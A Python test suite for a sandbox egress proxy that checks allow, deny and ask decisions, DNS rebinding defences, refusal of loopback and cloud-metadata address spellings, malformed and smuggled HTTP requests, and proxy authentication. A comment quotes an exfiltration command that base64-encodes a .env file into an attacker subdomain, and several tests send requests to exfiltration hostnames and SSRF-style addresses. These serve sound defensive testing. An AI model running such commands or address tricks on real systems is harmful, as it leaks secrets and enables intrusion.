"""The egress proxy with real sockets: a real HTTP server and a TCP echo server behind it,
curl and Python clients in front of it through a socat bridge (as the floor sets it up),
and one run inside a real bubblewrap sandbox with no network of its own."""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import stat
import urllib.request
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import Any

import pytest

from approvals.policy.network import network_decide, network_policy, network_screen
from drivers.sandbox.egress import EgressLimits, EgressProxy
from tests.sandbox.targets import Bridge, EchoTarget, HttpTarget, free_port


@pytest.fixture
def target() -> Iterator[HttpTarget]:
    with HttpTarget() as server:
        yield server


@pytest.fixture
def echo() -> Iterator[EchoTarget]:
    server = EchoTarget()
    yield server
    server.close()


class Person:
    """The caller's `decide`: answers at once, or (`waits`) when the test says so."""

    def __init__(self, allowed: bool = True, reason: str = "allowed by the test", *, waits: bool = False) -> None:
        self.allowed, self.reason, self.waits = allowed, reason, waits
        self.asked: list[tuple[str, int, tuple[str, ...]]] = []
        self.answered = asyncio.Event()
        self.asking = asyncio.Event()
        self.withdrawn = False  # the proxy cancelled the question (its client left)

    async def __call__(self, host: str, port: int, addresses: tuple[str, ...]) -> tuple[bool, str]:
        self.asked.append((host, port, addresses))
        self.asking.set()
        if self.waits:
            try:
                await self.answered.wait()
            except asyncio.CancelledError:
                self.withdrawn = True
                raise
        return self.allowed, self.reason

    def answer(self, allowed: bool, reason: str) -> None:
        self.allowed, self.reason = allowed, reason
        self.answered.set()


def by_policy(section: dict[str, Any]) -> Any:
    """A `decide` that applies a network section, as the lead's wiring will (asks become refusals)."""
    policy = network_policy(section)

    async def decide(host: str, port: int, addresses: tuple[str, ...]) -> tuple[bool, str]:
        verdict = network_decide(policy, host, port, addresses)
        return verdict.decision == "allow", verdict.reason

    return decide


@contextlib.asynccontextmanager
async def proxied(tmp_path: Path, decide: Any, **options: Any) -> AsyncIterator[tuple[EgressProxy, Bridge]]:
    async with EgressProxy(tmp_path / "egress.sock", decide, **options) as proxy:
        bridge = await asyncio.to_thread(Bridge, proxy.socket_path)
        try:
            yield proxy, bridge
        finally:
            await asyncio.to_thread(bridge.close)


async def curl(*args: str) -> tuple[int, str, str]:
    process = await asyncio.create_subprocess_exec(
        "curl", "-sS", "-m", "20", *args, stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE)
    out, err = await process.communicate()
    return process.returncode or 0, out.decode("latin-1"), err.decode("latin-1")


def fetch_with_python(proxy_url: str, url: str) -> bytes:
    """urllib through the proxy, as a Python program inside the floor fetches (in a thread:
    the proxy runs on the test's event loop, which a blocking read would stall)."""
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({"http": proxy_url}))
    with opener.open(url, timeout=20) as response:
        return bytes(response.read())


async def exchange(proxy: EgressProxy, data: bytes) -> bytes:
    """Send raw bytes to the proxy's socket; everything it answers until it closes."""
    reader, writer = await asyncio.open_unix_connection(proxy.socket_path)
    writer.write(data)
    await writer.drain()
    answer = await asyncio.wait_for(reader.read(), 20)
    writer.close()
    return answer


async def read_response(reader: asyncio.StreamReader) -> tuple[int, dict[str, str], bytes]:
    head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 20)
    lines = head.decode("latin-1").split("\r\n")
    headers = {k.lower(): v.strip() for k, _, v in (line.partition(":") for line in lines[1:] if line)}
    body = await reader.readexactly(int(headers.get("content-length", 0)))
    return int(lines[0].split()[1]), headers, body


async def until(condition: Any) -> None:
    async with asyncio.timeout(20):
        while not condition():
            await asyncio.sleep(0.02)


def status_of(answer: bytes) -> int:
    return int(answer.split(b" ", 2)[1])


# ---- allowed, refused, asked -----------------------------------------------------------------

async def test_an_allowed_host_is_reached_by_curl_and_by_python(tmp_path: Path, target: HttpTarget) -> None:
    person = Person()
    async with proxied(tmp_path, person) as (proxy, bridge):
        code, out, err = await curl("-x", bridge.url, "-d", "hello", f"http://127.0.0.1:{target.port}/a?b=1")
        assert code == 0, err
        seen = json.loads(out)
        assert (seen["method"], seen["path"], seen["body"]) == ("POST", "/a?b=1", "hello")
        assert seen["headers"]["Host"] == f"127.0.0.1:{target.port}"
        body = await asyncio.to_thread(fetch_with_python, bridge.url, f"http://127.0.0.1:{target.port}/py")
        assert json.loads(body)["path"] == "/py"
    assert person.asked[0] == ("127.0.0.1", target.port, ("127.0.0.1",))
    assert (proxy.counts.asked, proxy.counts.allowed, proxy.counts.refused) == (2, 2, 0)


async def test_connect_tunnels_to_an_allowed_host(tmp_path: Path, target: HttpTarget, echo: EchoTarget) -> None:
    async with proxied(tmp_path, Person()) as (proxy, bridge):
        code, out, err = await curl("-p", "-x", bridge.url, f"http://127.0.0.1:{target.port}/through")
        assert code == 0, err
        assert json.loads(out)["path"] == "/through"
        reader, writer = await asyncio.open_connection("127.0.0.1", bridge.port)
        writer.write(f"CONNECT 127.0.0.1:{echo.port} HTTP/1.1\r\nHost: 127.0.0.1:{echo.port}\r\n\r\n".encode())
        assert await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 20) == b"HTTP/1.1 200 Connection established\r\n\r\n"
        writer.write(b"\x16\x03\x01 a ClientHello, say")
        assert await asyncio.wait_for(reader.readexactly(22), 20) == b"\x16\x03\x01 a ClientHello, say"
        writer.close()


async def test_a_refused_host_is_answered_403_with_the_reason(tmp_path: Path, target: HttpTarget) -> None:
    person = Person(False, "network.deny[0] (`127.0.0.1`) refuses 127.0.0.1")
    async with proxied(tmp_path, person) as (proxy, bridge):
        code, out, err = await curl("-i", "-x", bridge.url, f"http://127.0.0.1:{target.port}/secret")
        assert out.startswith("HTTP/1.1 403 Forbidden")
        assert "X-Gatehouse-Refused: network.deny[0] (`127.0.0.1`) refuses 127.0.0.1" in out
        assert out.endswith(f"Gatehouse refused the connection to 127.0.0.1:{target.port}: "
                            "network.deny[0] (`127.0.0.1`) refuses 127.0.0.1\n")
        code, out, err = await curl("-p", "-x", bridge.url, f"http://127.0.0.1:{target.port}/tunnel")
        assert code != 0 and "403" in err
    assert target.requests == []
    assert proxy.counts.refused == 2


async def test_a_connection_waits_while_a_person_decides_then_proceeds(tmp_path: Path, target: HttpTarget) -> None:
    person = Person(waits=True)
    async with proxied(tmp_path, person) as (proxy, bridge):
        fetch = asyncio.create_task(curl("-x", bridge.url, f"http://127.0.0.1:{target.port}/later"))
        await asyncio.wait_for(person.asking.wait(), 20)
        assert [c.state for c in proxy.open_connections()] == ["deciding"]
        assert target.requests == []
        person.answer(True, "approved by a reviewer")
        code, out, err = await fetch
        assert code == 0 and json.loads(out)["path"] == "/later"


async def test_a_connection_is_refused_when_the_decision_times_out(tmp_path: Path, target: HttpTarget) -> None:
    never = asyncio.Event()

    async def decide_with_deadline(host: str, port: int, addresses: tuple[str, ...]) -> tuple[bool, str]:
        try:
            await asyncio.wait_for(never.wait(), 0.2)
        except TimeoutError:
            return False, "nobody decided before the approval's deadline"
        return True, "approved"

    async with proxied(tmp_path, decide_with_deadline) as (_proxy, bridge):
        code, out, err = await curl("-i", "-x", bridge.url, f"http://127.0.0.1:{target.port}/x")
        assert "403" in out.splitlines()[0] and "nobody decided before the approval's deadline" in out
    async with proxied(tmp_path, Person(waits=True), limits=EgressLimits(decide_timeout=0.2)) as (proxy, bridge):
        code, out, err = await curl("-i", "-x", bridge.url, f"http://127.0.0.1:{target.port}/x")
        assert "403" in out.splitlines()[0] and "no decision within 0.2 s" in out
    assert target.requests == []


async def test_a_client_that_leaves_withdraws_its_pending_question(tmp_path: Path, echo: EchoTarget) -> None:
    person = Person(waits=True)
    async with proxied(tmp_path, person) as (proxy, _bridge):
        reader, writer = await asyncio.open_unix_connection(proxy.socket_path)
        writer.write(f"CONNECT 127.0.0.1:{echo.port} HTTP/1.1\r\n\r\n".encode())
        await asyncio.wait_for(person.asking.wait(), 20)
        writer.close()
        await until(lambda: not proxy.open_connections())
    assert person.withdrawn and proxy.counts.abandoned == 1
    assert echo.peers == []


async def test_a_pending_decision_does_not_hold_up_other_connections(tmp_path: Path, target: HttpTarget) -> None:
    slow = Person(waits=True)

    async def decide(host: str, port: int, addresses: tuple[str, ...]) -> tuple[bool, str]:
        return await slow(host, port, addresses) if host == "localhost" else (True, "fine")

    async with proxied(tmp_path, decide) as (_proxy, bridge):
        waiting = asyncio.create_task(curl("-x", bridge.url, f"http://localhost:{target.port}/slow"))
        await asyncio.wait_for(slow.asking.wait(), 20)
        code, out, err = await curl("-x", bridge.url, f"http://127.0.0.1:{target.port}/fast")
        assert code == 0 and json.loads(out)["path"] == "/fast"
        slow.answer(False, "no")
        code, out, err = await waiting
        assert "Gatehouse refused" in out


async def test_a_decide_that_fails_refuses_and_the_proxy_goes_on(tmp_path: Path, target: HttpTarget) -> None:
    async def broken(host: str, port: int, addresses: tuple[str, ...]) -> tuple[bool, str]:
        raise RuntimeError("database is down")

    async with proxied(tmp_path, broken) as (proxy, bridge):
        for _ in range(2):
            code, out, err = await curl("-i", "-x", bridge.url, f"http://127.0.0.1:{target.port}/x")
            assert "403" in out.splitlines()[0] and "the decision could not be made" in out
    assert proxy.counts.refused == 2


async def test_the_model_api_is_reached_without_asking(tmp_path: Path, target: HttpTarget) -> None:
    person = Person(False, "would be refused")
    async with proxied(tmp_path, person, model_hosts=[("127.0.0.1", target.port)]) as (proxy, bridge):
        code, out, err = await curl("-x", bridge.url, f"http://127.0.0.1:{target.port}/v1/messages")
        assert code == 0 and json.loads(out)["path"] == "/v1/messages"
        code, out, err = await curl("-p", "-x", bridge.url, f"http://127.0.0.1:{target.port}/v1/messages")
        assert code == 0
        code, out, err = await curl("-i", "-x", bridge.url, f"http://localhost:{target.port}/v1/messages")
        assert "403" in out.splitlines()[0]  # the model API as configured, not another name for it
    assert person.asked == [("localhost", target.port, ("127.0.0.1",))]
    assert (proxy.counts.model, proxy.counts.asked) == (2, 1)


async def test_an_allowed_host_that_cannot_be_reached_is_502(tmp_path: Path) -> None:
    async with proxied(tmp_path, Person()) as (proxy, bridge):
        code, out, err = await curl("-i", "-x", bridge.url, f"http://127.0.0.1:{free_port()}/x")
        assert out.startswith("HTTP/1.1 502") and "cannot connect" in out
        code, out, err = await curl("-i", "-x", bridge.url, "http://no-such-host.invalid/x")
        assert out.startswith("HTTP/1.1 502") and "cannot resolve no-such-host.invalid" in out
    assert proxy.counts.failed == 2


# ---- DNS: resolved once, on the host; no rebinding; no private address ---------------------

async def test_a_name_that_resolves_to_loopback_is_refused_by_the_policy(tmp_path: Path, target: HttpTarget,
                                                                         echo: EchoTarget) -> None:
    decide = by_policy({"allow": ["*"], "default": "allow"})
    async with proxied(tmp_path, decide) as (_proxy, bridge):
        code, out, err = await curl("-i", "-x", bridge.url, f"http://localhost:{target.port}/admin")
        assert out.startswith("HTTP/1.1 403")
        assert "localhost resolves to 127.0.0.1, a loopback address: never reachable unless network.allow" in out
        code, out, err = await curl("-i", "-p", "-x", bridge.url, f"http://localhost:{echo.port}/")
        assert "403" in out
    assert target.requests == [] and echo.peers == []


async def test_the_proxy_connects_to_exactly_the_address_it_checked(tmp_path: Path, echo: EchoTarget) -> None:
    answers = [["127.0.0.1"], ["127.0.0.2"]]  # a name that changes its answer after the check
    resolved: list[str] = []

    async def rebinding(host: str, port: int) -> list[str]:
        resolved.append(host)
        return answers.pop(0) if answers else ["127.0.0.3"]

    person = Person()
    async with proxied(tmp_path, person, resolve=rebinding) as (proxy, _bridge):
        reader, writer = await asyncio.open_unix_connection(proxy.socket_path)
        writer.write(f"CONNECT rebind.example:{echo.port} HTTP/1.1\r\n\r\n".encode())
        assert (await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 20)).startswith(b"HTTP/1.1 200")
        (connection,) = proxy.open_connections()
        assert (connection.host, connection.address, connection.state) == ("rebind.example", "127.0.0.1", "tunnel")
        writer.close()
    assert resolved == ["rebind.example"]
    assert person.asked == [("rebind.example", echo.port, ("127.0.0.1",))]
    assert echo.peers == ["127.0.0.1"]


async def test_a_name_the_screen_refuses_is_never_looked_up(tmp_path: Path) -> None:
    policy = network_policy({"deny": ["*.exfil.example"], "default": "ask"})
    looked_up: list[str] = []

    async def resolve(host: str, port: int) -> list[str]:
        looked_up.append(host)
        return ["192.0.2.1"]

    def screen(host: str, port: int) -> str | None:
        verdict = network_screen(policy, host, port)
        return None if verdict is None else verdict.reason

    async with proxied(tmp_path, Person(), screen=screen, resolve=resolve) as (proxy, _bridge):
        answer = await exchange(proxy, b"CONNECT c2VjcmV0.exfil.example:443 HTTP/1.1\r\n\r\n")
    assert status_of(answer) == 403 and b"network.deny[0]" in answer
    assert looked_up == [] and proxy.counts.asked == 0


async def test_with_names_first_a_name_nobody_allowed_never_reaches_dns(tmp_path: Path, echo: EchoTarget) -> None:
    # `curl https://$(base64 .env).attacker.example`: refused by the person, never looked up
    looked_up: list[str] = []

    async def resolve(host: str, port: int) -> list[str]:
        looked_up.append(host)
        return ["127.0.0.1"]

    person = Person(allowed=False, reason="no")
    async with proxied(tmp_path, person, resolve=resolve, names_first=True) as (proxy, _bridge):
        answer = await exchange(proxy, b"CONNECT c2VjcmV0.attacker.example:443 HTTP/1.1\r\n\r\n")
    assert status_of(answer) == 403 and looked_up == []
    assert person.asked == [("c2vjcmv0.attacker.example", 443, ())]  # (the canonical name)
    # approved by its name: looked up once, then decided again with the addresses it will use
    person = Person()
    async with proxied(tmp_path, person, resolve=resolve, names_first=True) as (proxy, _bridge):
        reader, writer = await asyncio.open_unix_connection(proxy.socket_path)
        writer.write(f"CONNECT approved.example:{echo.port} HTTP/1.1\r\n\r\n".encode())
        head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 20)
        writer.close()
    assert status_of(head) == 200 and looked_up == ["approved.example"]
    assert person.asked == [("approved.example", echo.port, ()), ("approved.example", echo.port, ("127.0.0.1",))]


@pytest.mark.parametrize("authority", [
    "[::ffff:127.0.0.1]", "[::127.0.0.1]", "[64:ff9b::7f00:1]", "[64:ff9b:1::7f00:1]", "[2002:7f00:1::]",
    "[2001:0:4136:e378:8000:63bf:80ff:fffe]", "[::1]", "127.0.0.1", "[::ffff:169.254.169.254]",
])
async def test_every_spelling_of_a_loopback_or_metadata_address_is_refused(tmp_path: Path, echo: EchoTarget,
                                                                           authority: str) -> None:
    async with proxied(tmp_path, by_policy({"allow": ["*"], "default": "allow"})) as (proxy, _bridge):
        answer = await exchange(proxy, f"CONNECT {authority}:{echo.port} HTTP/1.1\r\n\r\n".encode())
    assert status_of(answer) == 403 and b"never reachable unless network.allow names it" in answer
    assert echo.peers == []


async def test_a_loopback_service_the_administrator_lists_is_reachable(tmp_path: Path, target: HttpTarget) -> None:
    decide = by_policy({"allow": [f"127.0.0.1:{target.port}"], "default": "deny"})
    async with proxied(tmp_path, decide) as (_proxy, bridge):
        code, out, err = await curl("-x", bridge.url, f"http://127.0.0.1:{target.port}/listed")
        assert code == 0 and json.loads(out)["path"] == "/listed"


# ---- malformed requests: answered, never a crash ---------------------------------------------

@pytest.mark.parametrize("request_bytes, status", [
    (b"CONNECT evil.example\x00.pypi.org:443 HTTP/1.1\r\n\r\n", 400),
    (b"CONNECT evil.example%00.pypi.org:443 HTTP/1.1\r\n\r\n", 400),
    (b"CONNECT pypi.org HTTP/1.1\r\n\r\n", 400),
    (b"CONNECT pypi.org:0 HTTP/1.1\r\n\r\n", 400),
    (b"CONNECT pypi.org:99999 HTTP/1.1\r\n\r\n", 400),
    (b"CONNECT ::1:443 HTTP/1.1\r\n\r\n", 400),
    (b"CONNECT [fe80::1%25eth0]:443 HTTP/1.1\r\n\r\n", 400),
    (b"CONNECT 2130706433:80 HTTP/1.1\r\n\r\n", 400),
    (b"CONNECT 0x7f000001:80 HTTP/1.1\r\n\r\n", 400),
    (b"CONNECT 127.1:80 HTTP/1.1\r\n\r\n", 400),
    (b"CONNECT b\xc3\xbccher.de:443 HTTP/1.1\r\n\r\n", 400),
    (b"CONNECT " + b"a" * 300 + b".com:443 HTTP/1.1\r\n\r\n", 400),
    (b"GET / HTTP/1.1\r\nHost: pypi.org\r\n\r\n", 400),
    (b"GET https://pypi.org/ HTTP/1.1\r\n\r\n", 400),
    (b"GET ftp://pypi.org/ HTTP/1.1\r\n\r\n", 400),
    (b"GET http://user:pw@pypi.org/ HTTP/1.1\r\n\r\n", 400),
    (b"GET http://pypi.org/ HTTP/2.0\r\n\r\n", 505),
    (b"GET http://pypi.org/  HTTP/1.1\r\n\r\n", 400),
    (b"GET http://pypi.org/ HTTP/1.1\r\nA: b\r\n folded\r\n\r\n", 400),
    (b"GET http://pypi.org/ HTTP/1.1\r\nBad Name: v\r\n\r\n", 400),
    (b"GET http://pypi.org/ HTTP/1.1\r\nA : v\r\n\r\n", 400),
    (b"GET http://pypi.org/ HTTP/1.1\r\nA: v\x00w\r\n\r\n", 400),
    (b"GET http://pypi.org/ HTTP/1.1\r\nA: v\rw\r\n\r\n", 400),
    (b"GET http://pypi.org/ HTTP/1.1\r\n" + b"X-Big: " + b"a" * 70000 + b"\r\n\r\n", 431),
    (b"GET http://pypi.org/ HTTP/1.1\r\n" + b"X-A: b\r\n" * 101 + b"\r\n", 431),
    (b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\xde\xad\r\n\r\n", 400),
    (b"\r\n\r\n", 400),
])
async def test_a_malformed_request_is_answered_with_a_clear_status(tmp_path: Path, request_bytes: bytes,
                                                                   status: int) -> None:
    person = Person()
    async with proxied(tmp_path, person) as (proxy, _bridge):
        answer = await exchange(proxy, request_bytes)
        assert status_of(answer) == status, answer
        assert b"X-Gatehouse-Refused: " in answer
        assert status_of(await exchange(proxy, b"CONNECT 127.0.0.1:9 HTTP/1.1\r\n\r\n")) in (200, 502)  # still serving
    assert person.asked == [("127.0.0.1", 9, ("127.0.0.1",))]  # only the good request was decided
    assert proxy.counts.malformed == 1


@pytest.mark.parametrize("headers, status", [
    (b"Transfer-Encoding: chunked\r\nContent-Length: 5\r\n", 400),  # request smuggling
    (b"Content-Length: 5\r\nContent-Length: 6\r\n", 400),
    (b"Content-Length: -1\r\n", 400),
    (b"Transfer-Encoding: gzip\r\n", 501),
])
async def test_ambiguous_body_framing_is_refused_before_anything_is_sent(tmp_path: Path, target: HttpTarget,
                                                                         headers: bytes, status: int) -> None:
    async with proxied(tmp_path, Person()) as (proxy, _bridge):
        answer = await exchange(proxy, f"POST http://127.0.0.1:{target.port}/x HTTP/1.1\r\n".encode()
                                + headers + b"\r\nhello0\r\n\r\n")
    assert status_of(answer) == status
    assert target.requests == []


async def test_a_slow_request_head_is_cut_off(tmp_path: Path) -> None:
    async with proxied(tmp_path, Person(), limits=EgressLimits(header_timeout=0.3)) as (proxy, _bridge):
        reader, writer = await asyncio.open_unix_connection(proxy.socket_path)
        writer.write(b"GET http://pypi.org/ HTTP/1.1\r\nX-Slow: ")  # and never the rest
        answer = await asyncio.wait_for(reader.read(), 20)
        writer.close()
    assert status_of(answer) == 408 and b"did not arrive within 0.3 s" in answer


async def test_too_many_connections_are_answered_503(tmp_path: Path) -> None:
    # on the socket itself: a bridge's readiness probe would be a connection of its own
    async with EgressProxy(tmp_path / "egress.sock", Person(), limits=EgressLimits(max_connections=2)) as proxy:
        held = [await asyncio.open_unix_connection(proxy.socket_path) for _ in range(2)]
        await until(lambda: len(proxy.open_connections()) == 2)
        assert status_of(await exchange(proxy, b"CONNECT 127.0.0.1:9 HTTP/1.1\r\n\r\n")) == 503
        for _reader, writer in held:
            writer.close()


# ---- forwarding: bodies, keep-alive, headers -------------------------------------------------

async def test_keep_alive_serves_several_requests_and_asks_once(tmp_path: Path, target: HttpTarget) -> None:
    person = Person()
    async with proxied(tmp_path, person) as (_proxy, _bridge):
        reader, writer = await asyncio.open_unix_connection(_proxy.socket_path)
        base = f"http://127.0.0.1:{target.port}"
        # two requests written at once (pipelined), the first with a chunked body
        writer.write(f"POST {base}/one HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n"
                     f"5\r\nhello\r\n6\r\n world\r\n0\r\n\r\n"
                     f"GET {base}/chunked HTTP/1.1\r\n\r\n".encode())
        status, headers, body = await read_response(reader)
        assert (status, json.loads(body)["body"], headers["connection"]) == (200, "hello world", "keep-alive")
        assert headers.get("transfer-encoding") is None
        head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 20)
        assert b"Transfer-Encoding: chunked" in head
        chunked = await asyncio.wait_for(reader.readuntil(b"0\r\n\r\n"), 20)
        assert b'"path": "/chunked"' in chunked.replace(b"\r\n", b"").replace(b"a\r\n", b"")
        writer.write(f"HEAD {base}/three HTTP/1.1\r\nConnection: close\r\n\r\n".encode())
        head = await asyncio.wait_for(reader.read(), 20)
        assert head.startswith(b"HTTP/1.1 200") and b"Connection: close" in head and head.endswith(b"\r\n\r\n")
        writer.close()
    assert [r["path"] for r in target.requests] == ["/one", "/chunked", "/three"]
    assert len(person.asked) == 1


async def test_a_large_response_streams_through(tmp_path: Path, target: HttpTarget) -> None:
    async with proxied(tmp_path, Person()) as (_proxy, bridge):
        code, out, err = await curl("-x", bridge.url, f"http://127.0.0.1:{target.port}/big?n=5000000")
    assert code == 0 and len(out) == 5_000_000


async def test_an_idle_kept_alive_connection_is_closed(tmp_path: Path, target: HttpTarget) -> None:
    async with proxied(tmp_path, Person(), limits=EgressLimits(idle_timeout=0.3)) as (proxy, _bridge):
        reader, writer = await asyncio.open_unix_connection(proxy.socket_path)
        writer.write(f"GET http://127.0.0.1:{target.port}/ HTTP/1.1\r\n\r\n".encode())
        assert (await read_response(reader))[0] == 200
        assert await asyncio.wait_for(reader.read(), 20) == b""  # closed, with nothing said
        writer.close()


async def test_the_url_decides_the_host_and_hop_headers_stay_behind(tmp_path: Path, target: HttpTarget) -> None:
    async with proxied(tmp_path, Person()) as (proxy, _bridge):
        answer = await exchange(proxy, (
            f"GET http://127.0.0.1:{target.port}/h HTTP/1.1\r\nHost: evil.example\r\nHost: other.example\r\n"
            "Proxy-Authorization: Basic c2VjcmV0\r\nConnection: close, X-Drop\r\nX-Drop: 1\r\nKeep-Alive: 5\r\n"
            "Upgrade: websocket\r\nX-Keep: 2\r\n\r\n").encode())
    seen = target.requests[0]["headers"]
    assert seen["Host"] == f"127.0.0.1:{target.port}"
    assert seen["X-Keep"] == "2" and seen["Connection"] == "close"
    assert not {"Proxy-Authorization", "X-Drop", "Keep-Alive", "Upgrade"} & set(seen)
    assert status_of(answer) == 200


async def test_with_a_token_the_proxy_wants_the_runs_credentials(tmp_path: Path, target: HttpTarget) -> None:
    async with proxied(tmp_path, Person(), token="run-42-secret") as (proxy, bridge):
        code, out, err = await curl("-i", "-x", bridge.url, f"http://127.0.0.1:{target.port}/x")
        assert out.startswith("HTTP/1.1 407") and 'Proxy-Authenticate: Basic realm="gatehouse"' in out
        with_token = bridge.url.replace("http://", "http://run:run-42-secret@")
        code, out, err = await curl("-x", with_token, f"http://127.0.0.1:{target.port}/x")
        assert code == 0 and json.loads(out)["path"] == "/x"
        code, out, err = await curl("-p", "-x", with_token, f"http://127.0.0.1:{target.port}/tunnel")
        assert code == 0
    assert "Proxy-Authorization" not in target.requests[0]["headers"]


# ---- lifecycle -------------------------------------------------------------------------------

async def test_open_connections_are_listed_and_closed_at_the_runs_end(tmp_path: Path, echo: EchoTarget) -> None:
    async with EgressProxy(tmp_path / "egress.sock", Person()) as proxy:
        assert stat.S_IMODE(os.stat(proxy.socket_path).st_mode) == 0o600
        reader, writer = await asyncio.open_unix_connection(proxy.socket_path)
        writer.write(f"CONNECT 127.0.0.1:{echo.port} HTTP/1.1\r\n\r\n".encode())
        await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 20)
        (tunnel,) = proxy.open_connections()
        assert (tunnel.state, tunnel.host, tunnel.port, tunnel.address) == ("tunnel", "127.0.0.1", echo.port, "127.0.0.1")
        assert await proxy.close_connections() == 1
        assert await asyncio.wait_for(reader.read(), 20) == b""
        assert proxy.open_connections() == []
        writer.close()
    assert not proxy.socket_path.exists()
